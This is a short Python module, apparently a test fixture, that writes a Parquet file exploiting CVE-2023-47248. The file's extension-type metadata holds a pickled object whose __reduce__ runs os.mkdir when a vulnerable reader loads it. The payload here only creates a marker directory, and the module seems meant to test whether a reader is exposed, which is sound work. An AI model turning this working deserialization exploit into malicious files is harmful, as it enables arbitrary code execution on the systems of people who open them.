"""A Parquet file that runs code in a reader that trusts it (CVE-2023-47248)."""

from __future__ import annotations

import os
import pickle
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq


class _Call:
    def __init__(self, marker: Path):
        self._marker = marker

    def __reduce__(self):
        return os.mkdir, (str(self._marker),)


def write_pickled_parquet(path: Path, marker: Path, column: str) -> Path:
    """Two rows of `title`, `id` and `tags`, a list of `tag`; unpickling the type of `column` makes `marker`."""
    metadata = {
        "ARROW:extension:name": "arrow.py_extension_type",
        "ARROW:extension:metadata": pickle.dumps(_Call(marker)),
    }

    def field(name: str) -> pa.Field:
        return pa.field(name, pa.string(), metadata=metadata if name == column else None)

    schema = pa.schema([field("title"), field("id"), pa.field("tags", pa.list_(field("tag")))])
    pq.write_table(pa.table([["One", "Two"], ["1", "2"], [["a"], []]], schema), path)
    return path
